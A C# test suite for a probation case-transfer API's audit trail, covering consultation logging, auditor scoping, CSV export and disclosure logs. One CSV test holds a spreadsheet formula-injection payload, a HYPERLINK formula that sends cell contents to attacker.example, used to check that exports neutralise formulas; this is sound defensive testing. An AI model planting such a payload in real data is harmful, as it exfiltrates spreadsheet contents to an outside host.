using System.Net;
using System.Net.Http.Json;
using System.Text.Json.Nodes;
using CaseTransfer.Api.Tests.Contract;
using CaseTransfer.Api.Tests.Infrastructure;
using CaseTransfer.Application.Common;
using CaseTransfer.Domain.Auditing;
using CaseTransfer.Domain.Identifiers;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using static CaseTransfer.Api.Tests.Infrastructure.TestData;

namespace CaseTransfer.Api.Tests.Auditing;

/// <summary>Every read of case data is a consultation entry; the trail and the disclosure log answer who saw what.</summary>
public abstract class AuditTrailTests(CaseTransferApp app)
{
    /// <summary>
    /// Reads of reference data and of the log's hashes, not of any person's case: the only GETs allowed to leave no
    /// consultation entry. Adding to this list is a decision a reviewer should see.
    /// </summary>
    private static readonly HashSet<string> ReferenceDataReads =
    [
        "/api/v1/organisations", "/api/v1/organisations/{code}/practitioners", "/api/v1/allocations/rulesets",
        "/api/v1/audit/checkpoints", "/api/v1/audit/public-key", "/api/v1/audit/entries/{index}/proof", "/api/v1/audit/consistency",

        // A webhook subscription's settings name no case; its failures do (and are checked below).
        "/api/v1/subscriptions", "/api/v1/subscriptions/{id}",
    ];

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    private HttpClient NpsStaff() => app.ClientFor(NpsNorthWest, "nw-spo-01", Roles.Allocator, Roles.CaseManager, Roles.InformationOfficer, Roles.Auditor);

    [Fact]
    public async Task Every_endpoint_that_reads_case_data_leaves_a_consultation_entry()
    {
        var client = NpsStaff();
        var crn = await CreateCaseAsync(client);
        (await client.PostAsJsonAsync($"/api/v1/cases/{crn}/risk-assessments", Assessment("Medium"), Ct)).EnsureSuccessStatusCode();
        var proposal = await client.PostAsJsonAsync("/api/v1/allocations", new { crn, toOrganisation = CrcGreaterManchester, reason = "NewSentence" }, Ct);
        var allocationId = (await proposal.EnsureSuccessStatusCode().ReadJsonAsync())["id"]!.GetValue<string>();
        var document = JsonNode.Parse(await File.ReadAllTextAsync(Path.Combine(RepositoryRoot.Path, "openapi", "case-transfer.v1.json"), Ct))!;
        var checkedPaths = new List<string>();

        // Bulk transfers are read by the national NPS's managers; their reports list cases too.
        var nationalManager = app.ClientFor(Nps, "nps-mgr-09", Roles.Manager);
        var victimLiaison = app.ClientFor(Nps, "vlu-01", Roles.VictimLiaison);
        var transfer = await nationalManager.PostAsJsonAsync("/api/v1/transfers", new
        {
            fromOrganisation = NpsLondon, toOrganisation = CrcLondon, areaCode = "LDNN", effectiveAt = DateTimeOffset.UtcNow.AddDays(1), reason = "Contract re-let",
        }, Ct);
        var transferId = (await transfer.ReadJsonAsync())["id"]!.GetValue<string>();

        // An escalation of another case, which a provider holds, to the region: the region reads it.
        var escalationId = (await new Escalations.EscalationScenario(app, TimeProvider.System).RequestedAsync())["id"]!.GetValue<string>();

        // A dispute the region raised about a declined escalation of a third case: the region is a party and reads it.
        var disputes = new Disputes.DisputeScenario(app, TimeProvider.System);
        var disputeId = (await Disputes.DisputeScenario.RaisedAsync(disputes.NpsManager(), "EscalationDecline", await disputes.DeclinedEscalationAsync()))["id"]!.GetValue<string>();
        // An alert the region must act on about the case (as the alert job raises one).
        var alertId = await app.InDatabaseAsync(async db =>
        {
            var @case = await db.Cases.AsNoTracking().SingleAsync(c => c.Crn == Crn.Parse(crn), Ct);
            var alert = Domain.Alerts.Alert.Raise(
                Guid.CreateVersion7(),
                new Domain.Alerts.AlertFinding(
                    Domain.Alerts.AlertKinds.CaseQuiet, @case.Id, @case.Crn, @case.Id, NpsNorthWest, Domain.Alerts.AlertAudience.Everyone, DateTimeOffset.UtcNow, null),
                new Domain.Alerts.AlertPolicy(28, 24),
                DateTimeOffset.UtcNow);
            db.Alerts.Add(alert);
            await db.SaveChangesAsync(Ct);
            return alert.Id.ToString();
        });

        // A share the region made of the case, and a request it made about it: the region reads both.
        var shareId = (await (await client.PostAsJsonAsync("/api/v1/shares", new
        {
            crn, recipientOrganisation = CrcGreaterManchester, type = "PreviousConvictions", purpose = "Allocation", lawfulBasis = "ProbationPurposes",
            mode = "ReadOnly", expiresAt = DateTimeOffset.UtcNow.AddDays(7), content = "None recorded.",
        }, Ct)).EnsureSuccessStatusCode().ReadJsonAsync())["id"]!.GetValue<string>();
        var requestId = (await (await client.PostAsJsonAsync("/api/v1/information-requests", new
        {
            crn, addresseeOrganisation = CrcGreaterManchester, type = "RiskAssessment", purpose = "Allocation", lawfulBasis = "ProbationPurposes",
            urgency = "Routine", dueDate = DateTime.UtcNow.AddDays(7).ToString("yyyy-MM-dd", System.Globalization.CultureInfo.InvariantCulture),
        }, Ct)).EnsureSuccessStatusCode().ReadJsonAsync())["id"]!.GetValue<string>();

        var pdf = new ByteArrayContent("%PDF-1.7\n%%EOF\n"u8.ToArray()) { Headers = { ContentType = new("application/pdf") } };
        var documentId = (await (await client.PostAsync($"/api/v1/cases/{crn}/documents?fileName=report.pdf", pdf, Ct))
            .EnsureSuccessStatusCode().ReadJsonAsync())["id"]!.GetValue<string>();

        // A webhook subscription of the region's: its failures name cases.
        var admin = app.ClientFor(NpsNorthWest, "nw-admin-01", Roles.Admin);
        var subscriptionId = (await (await admin.PostAsJsonAsync("/api/v1/subscriptions", new { callbackUrl = "https://cms.nps-nw.example/events", eventTypes = new[] { "*" } }, Ct))
            .EnsureSuccessStatusCode().ReadJsonAsync())["id"]!.GetValue<string>();

        // A subject access request about the case, gathered as the worker would: the officer reads its status and bundle.
        var officer = app.ClientFor(Nps, "dpo-01", Roles.DataProtectionOfficer);
        var subjectAccessId = (await (await officer.PostAsJsonAsync("/api/v1/subject-access-requests", new { crn, reference = "DPO-AUDIT-1" }, Ct))
            .EnsureSuccessStatusCode().ReadJsonAsync())["id"]!.GetValue<Guid>();
        await using (var scope = app.Services.CreateAsyncScope())
        {
            var gatherer = scope.ServiceProvider.GetRequiredService<CaseTransfer.Application.SubjectAccess.SubjectAccessGatherer>();
            Assert.True(await gatherer.ClaimAsync(subjectAccessId, Ct));
            Assert.True(await gatherer.GatherAsync(subjectAccessId, cancellationToken: Ct));
        }

        foreach (var (path, item) in document["paths"]!.AsObject())
        {
            if (item!["get"] is null || ReferenceDataReads.Contains(path))
            {
                continue;
            }

            var isTransfer = path.StartsWith("/api/v1/transfers", StringComparison.Ordinal);
            var isSubjectAccess = path.StartsWith("/api/v1/subject-access-requests", StringComparison.Ordinal);
            var id = isTransfer ? transferId
                : isSubjectAccess ? subjectAccessId.ToString()
                : path.StartsWith("/api/v1/escalations", StringComparison.Ordinal) ? escalationId
                : path.StartsWith("/api/v1/disputes", StringComparison.Ordinal) ? disputeId
                : path.StartsWith("/api/v1/alerts", StringComparison.Ordinal) ? alertId
                : path.StartsWith("/api/v1/shares", StringComparison.Ordinal) ? shareId
                : path.StartsWith("/api/v1/information-requests", StringComparison.Ordinal) ? requestId
                : path.StartsWith("/api/v1/documents", StringComparison.Ordinal) ? documentId
                : path.StartsWith("/api/v1/subscriptions", StringComparison.Ordinal) ? subscriptionId
                : allocationId;
            var url = path.Replace("{crn}", crn, StringComparison.Ordinal).Replace("{id}", id, StringComparison.Ordinal)
                + (path == "/api/v1/cases" ? $"?q={crn}" : "");
            var before = await ConsultationsAsync();

            // Victims' details are read by the NPS victim liaison unit alone (everyone else: 404).
            var reader = isTransfer ? nationalManager : isSubjectAccess ? officer : path.EndsWith("/victims", StringComparison.Ordinal) ? victimLiaison
                : path.StartsWith("/api/v1/subscriptions", StringComparison.Ordinal) ? admin : client;
            var response = await reader.GetAsync(url, Ct);

            Assert.True(response.IsSuccessStatusCode, $"GET {url} answered {(int)response.StatusCode}");
            Assert.True(await ConsultationsAsync() == before + 1, $"GET {path} left no consultation entry in the audit trail");
            checkedPaths.Add(path);
        }

        Assert.Contains("/api/v1/cases/{crn}", checkedPaths);
        Assert.Contains("/api/v1/audit", checkedPaths);
        Assert.Contains("/api/v1/allocations/{id}", checkedPaths);
        Assert.Contains("/api/v1/escalations/{id}", checkedPaths);
        Assert.Contains("/api/v1/disputes/{id}", checkedPaths);
        Assert.Contains("/api/v1/disputes", checkedPaths);
        Assert.Contains("/api/v1/alerts/{id}", checkedPaths);
        Assert.Contains("/api/v1/transfers/{id}/items", checkedPaths);
        Assert.Contains("/api/v1/cases/{crn}/victims", checkedPaths);
        Assert.Contains("/api/v1/shares/{id}", checkedPaths);
        Assert.Contains("/api/v1/information-requests/{id}", checkedPaths);
        Assert.Contains("/api/v1/documents/{id}/content", checkedPaths);
        Assert.Contains("/api/v1/events", checkedPaths);
        Assert.Contains("/api/v1/subscriptions/{id}/failures", checkedPaths);
    }

    /// <summary>
    /// Consultation entries of concurrent reads are committed together, but each read answers only once its own entry
    /// is committed: a read whose entry cannot be written is refused, and it takes no other read down with it.
    /// </summary>
    [Fact]
    public async Task A_read_whose_consultation_entry_cannot_be_written_is_refused_and_concurrent_reads_are_not()
    {
        var client = NpsStaff();
        var refused = await CreateCaseAsync(client);
        var allowed = await CreateCaseAsync(client);
        await app.InDatabaseAsync(db => db.Database.ExecuteSqlRawAsync(RefuseConsultationsAbout(refused), Ct));

        var reads = await Task.WhenAll(Enumerable.Range(0, 12).Select(async i =>
        {
            var crn = i % 2 == 0 ? refused : allowed;
            using var response = await client.GetAsync($"/api/v1/cases/{crn}", Ct);
            return (Crn: crn, response.StatusCode, Body: await response.Content.ReadAsStringAsync(Ct));
        }));

        Assert.All(reads.Where(r => r.Crn == refused), r =>
        {
            Assert.False((int)r.StatusCode is >= 200 and < 300, $"the read answered {(int)r.StatusCode} without its consultation entry");
            Assert.DoesNotContain("Smith", r.Body, StringComparison.Ordinal);
        });
        Assert.All(reads.Where(r => r.Crn == allowed), r => Assert.Equal(HttpStatusCode.OK, r.StatusCode));
        var logged = await app.InDatabaseAsync(db => db.AuditEntries.AsNoTracking()
            .Where(e => e.Operation == AuditOperation.Consultation && e.Action == "GetCaseSummary")
            .Select(e => e.Crn).ToListAsync(Ct));
        Assert.Equal(6, logged.Count(c => c == Crn.Parse(allowed)));
        Assert.DoesNotContain(Crn.Parse(refused), logged.Select(c => c!.Value));
    }

    /// <summary>A trigger that makes the database reject every consultation entry about one (test-generated) CRN.</summary>
    private string RefuseConsultationsAbout(string crn) => app is PostgresApp
        ? $"""
          CREATE FUNCTION refuse_consultation_test() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION 'consultation refused by the test'; END $$;
          CREATE TRIGGER "AuditEntries_refuse_test" BEFORE INSERT ON "AuditEntries" FOR EACH ROW
              WHEN (NEW."Operation" = 'Consultation' AND NEW."Crn" = '{crn}') EXECUTE FUNCTION refuse_consultation_test();
          """
        : $"""CREATE TRIGGER "AuditEntries_refuse_test" BEFORE INSERT ON "AuditEntries" WHEN NEW."Operation" = 'Consultation' AND NEW."Crn" = '{crn}' BEGIN SELECT RAISE(ABORT, 'consultation refused by the test'); END;""";

    [Fact]
    public async Task Opening_a_case_summary_records_who_consulted_it_and_which_version()
    {
        var client = NpsStaff();
        var crn = await CreateCaseAsync(client);

        (await client.GetAsync($"/api/v1/cases/{crn}", Ct)).EnsureSuccessStatusCode();

        var entry = await app.InDatabaseAsync(db => db.AuditEntries.AsNoTracking()
            .SingleAsync(e => e.Crn == (Crn?)Crn.Parse(crn) && e.Action == "GetCaseSummary", Ct));
        Assert.Equal(AuditOperation.Consultation, entry.Operation);
        Assert.Equal("nw-spo-01", entry.ActorUserId);
        Assert.Equal(NpsNorthWest, entry.ActorOrganisation);
        Assert.Equal(1, entry.ResourceVersion);
        Assert.Matches("^[0-9a-f]{32}$", entry.TraceId);
    }

    [Fact]
    public async Task A_change_is_summarised_by_field_with_old_and_new_values()
    {
        var client = NpsStaff();
        var crn = await CreateCaseAsync(client);
        (await client.PostAsJsonAsync($"/api/v1/cases/{crn}/risk-assessments", Assessment("Medium"), Ct)).EnsureSuccessStatusCode();
        (await client.PostAsJsonAsync($"/api/v1/cases/{crn}/risk-assessments", Assessment("High"), Ct)).EnsureSuccessStatusCode();
        (await client.PostAsJsonAsync($"/api/v1/cases/{crn}/responsible-officer", new { practitionerId = PriyaPatelNpsNw }, Ct)).EnsureSuccessStatusCode();

        var summaries = await app.InDatabaseAsync(db => db.AuditEntries.AsNoTracking()
            .Where(e => e.Crn == (Crn?)Crn.Parse(crn) && e.Operation != AuditOperation.Consultation)
            .OrderBy(e => e.Sequence).Select(e => e.Summary).ToListAsync(Ct));

        Assert.Equal(4, summaries.Count);
        Assert.Contains("holder: NPS-NW", summaries[0], StringComparison.Ordinal);
        Assert.Contains("riskOfSeriousHarm: none -> Medium", summaries[1], StringComparison.Ordinal);
        Assert.Equal("risk assessment recorded; riskOfSeriousHarm: Medium -> High; computed tier: C1 -> B1", summaries[2]);
        Assert.Equal($"responsibleOfficerId: none -> {PriyaPatelNpsNw}", summaries[3]);
    }

    [Fact]
    public async Task A_providers_auditor_sees_its_own_staffs_actions_but_not_cases_it_never_held()
    {
        var crn = await CreateCaseAsync(NpsStaff());
        var providerStaff = app.ClientFor(CrcGreaterManchester, "cgm-po-02", Roles.CaseManager);
        Assert.Equal(HttpStatusCode.NotFound, (await providerStaff.GetAsync($"/api/v1/cases/{crn}", Ct)).StatusCode);
        (await providerStaff.GetAsync("/api/v1/cases?q=smith", Ct)).EnsureSuccessStatusCode();
        var providerAuditor = app.ClientFor(CrcGreaterManchester, "cgm-aud-01", Roles.Auditor);
        var nationalAuditor = app.ClientFor(Nps, "nps-aud-01", Roles.Auditor);

        var aboutTheCase = await providerAuditor.GetFromJsonAsync<JsonObject>($"/api/v1/audit?crn={crn}", Ct);
        var ownStaff = await providerAuditor.GetFromJsonAsync<JsonObject>("/api/v1/audit?actor=cgm-po-02&limit=1000", Ct);
        var everything = await providerAuditor.GetFromJsonAsync<JsonObject>("/api/v1/audit?limit=1000", Ct);
        var nationalView = await nationalAuditor.GetFromJsonAsync<JsonObject>($"/api/v1/audit?crn={crn}", Ct);

        // Other tests share this service: the provider may have held other cases (then left them, by escalation),
        // and actions of anyone on those are its auditor's to see. Nothing else of another organisation's is.
        var everHeld = (await app.InDatabaseAsync(db => db.CaseHoldings.Where(h => h.OrganisationCode == CrcGreaterManchester)
            .Join(db.Cases, h => h.CaseId, c => c.Id, (h, c) => c.Crn).ToListAsync(Ct))).Select(c => c.ToString()).ToHashSet();
        Assert.Empty(aboutTheCase!["items"]!.AsArray());
        Assert.All(everything!["items"]!.AsArray(), e => Assert.True(
            e!["actorOrganisation"]!.GetValue<string>() == CrcGreaterManchester || everHeld.Contains(e["crn"]?.GetValue<string>() ?? ""),
            $"{e["actorOrganisation"]} {e["action"]} on {e["crn"]} is not the provider's to see"));
        Assert.Contains(ownStaff!["items"]!.AsArray(), e => e!["action"]!.GetValue<string>() == "SearchCases");
        Assert.Contains(nationalView!["items"]!.AsArray(), e => e!["action"]!.GetValue<string>() == "CreateCase");
    }

    [Fact]
    public async Task Reading_the_trail_needs_the_auditor_role_and_is_itself_logged()
    {
        var caseManager = app.ClientFor(NpsNorthWest, "nw-po-02", Roles.CaseManager);
        Assert.Equal(HttpStatusCode.Forbidden, (await caseManager.GetAsync("/api/v1/audit", Ct)).StatusCode);
        var auditor = app.ClientFor(NpsNorthWest, "nw-aud-09", Roles.Auditor);

        (await auditor.GetAsync("/api/v1/audit?operation=Collection", Ct)).EnsureSuccessStatusCode();

        var logged = await app.InDatabaseAsync(db => db.AuditEntries.CountAsync(e => e.ActorUserId == "nw-aud-09" && e.Action == "GetAuditTrail", Ct));
        Assert.Equal(1, logged);
    }

    [Fact]
    public async Task The_trail_pages_with_a_cursor_and_filters_by_operation()
    {
        var client = NpsStaff();
        for (var i = 0; i < 3; i++)
        {
            await CreateCaseAsync(client);
        }

        var auditor = app.ClientFor(Nps, "nps-aud-02", Roles.Auditor);
        var first = await auditor.GetFromJsonAsync<JsonObject>("/api/v1/audit?operation=Collection&limit=2", Ct);
        var cursor = first!["nextCursor"]!.GetValue<string>();
        var second = await auditor.GetFromJsonAsync<JsonObject>($"/api/v1/audit?operation=Collection&limit=2&cursor={cursor}", Ct);

        var firstItems = first["items"]!.AsArray();
        var secondItems = second!["items"]!.AsArray();
        Assert.Equal(2, firstItems.Count);
        Assert.NotEmpty(secondItems);
        Assert.All(firstItems.Concat(secondItems), e => Assert.Equal("Collection", e!["operation"]!.GetValue<string>()));
        Assert.True(secondItems[0]!["sequence"]!.GetValue<long>() > firstItems[1]!["sequence"]!.GetValue<long>());
    }

    [Fact]
    public async Task The_trail_comes_as_CSV_when_asked()
    {
        var crn = await CreateCaseAsync(NpsStaff());
        var auditor = app.ClientFor(Nps, "nps-aud-03", Roles.Auditor);

        var response = await auditor.GetAsync($"/api/v1/audit?crn={crn}&format=csv", Ct);

        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        var lines = (await response.Content.ReadAsStringAsync(Ct)).Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.StartsWith("Sequence,Id,OccurredAt,Operation,Action", lines[0], StringComparison.Ordinal);
        Assert.Contains(lines, l => l.Contains("CreateCase", StringComparison.Ordinal) && l.Contains(crn, StringComparison.Ordinal));
    }

    [Fact]
    public async Task The_CSV_trail_writes_instants_in_ISO_8601_UTC_and_neutralises_formulas()
    {
        // A display name from an identity provider that a spreadsheet would run as a formula.
        const string formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")";
        var client = app.AnonymousClient();
        client.DefaultRequestHeaders.Authorization = new System.Net.Http.Headers.AuthenticationHeaderValue(
            "Bearer", app.TokenFor(NpsNorthWest, "nw-csv-01", [Roles.Allocator, Roles.CaseManager], userName: formula));
        var crn = await CreateCaseAsync(client);
        var auditor = app.ClientFor(Nps, "nps-aud-05", Roles.Auditor);

        var response = await auditor.GetAsync($"/api/v1/audit?crn={crn}&actor=nw-csv-01&format=csv", Ct);

        response.EnsureSuccessStatusCode();
        using var reader = new CsvHelper.CsvReader(new StringReader(await response.Content.ReadAsStringAsync(Ct)), System.Globalization.CultureInfo.InvariantCulture);
        var rows = reader.GetRecords<dynamic>().Cast<IDictionary<string, object>>().ToList();
        var created = Assert.Single(rows, r => (string)r["Action"] == "CreateCase");
        Assert.Matches(@"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?Z$", (string)created["OccurredAt"]);
        Assert.Equal("'" + formula, (string)created["ActorUserName"]);
    }

    [Fact]
    public async Task A_bad_trail_filter_is_a_400_naming_it()
    {
        var auditor = app.ClientFor(Nps, "nps-aud-04", Roles.Auditor);

        var badCrn = await auditor.GetAsync("/api/v1/audit?crn=nope", Ct);
        var badOperation = await auditor.GetAsync("/api/v1/audit?operation=Gossip", Ct);

        Problems.AssertNamesField(await Problems.AssertProblemAsync(badCrn, HttpStatusCode.BadRequest), "crn");
        Problems.AssertNamesField(await Problems.AssertProblemAsync(badOperation, HttpStatusCode.BadRequest), "operation");
    }

    [Fact]
    public async Task The_disclosure_log_lists_who_consulted_a_persons_data_and_when()
    {
        var client = NpsStaff();
        var crn = await CreateCaseAsync(client);
        var colleague = app.ClientFor(NpsNorthWest, "nw-po-04", Roles.CaseManager);
        (await colleague.GetAsync($"/api/v1/cases/{crn}", Ct)).EnsureSuccessStatusCode();
        (await colleague.GetAsync($"/api/v1/cases/{crn}/risk-assessments", Ct)).EnsureSuccessStatusCode();

        var log = await client.GetFromJsonAsync<JsonArray>($"/api/v1/cases/{crn}/disclosure-log", Ct);

        Assert.NotNull(log);
        Assert.Equal(2, log.Count(e => e!["actorUserId"]!.GetValue<string>() == "nw-po-04"));
        Assert.All(log, e => Assert.Equal("Consultation", e!["operation"]!.GetValue<string>()));
        var provider = app.ClientFor(CrcGreaterManchester, "cgm-io-01", Roles.InformationOfficer);
        Assert.Equal(HttpStatusCode.NotFound, (await provider.GetAsync($"/api/v1/cases/{crn}/disclosure-log", Ct)).StatusCode);
    }

    /// <summary>Reads logged: consultations, and disclosures (a subject access bundle downloaded for the data subject is one).</summary>
    private Task<int> ConsultationsAsync() =>
        app.InDatabaseAsync(db => db.AuditEntries.CountAsync(e => e.Operation == AuditOperation.Consultation || e.Operation == AuditOperation.Disclosure, Ct));
}

public sealed class AuditTrailTestsOnSqlite(SqliteApp app) : AuditTrailTests(app), IClassFixture<SqliteApp>;

public sealed class AuditTrailTestsOnPostgres(PostgresApp app) : AuditTrailTests(app), IClassFixture<PostgresApp>;
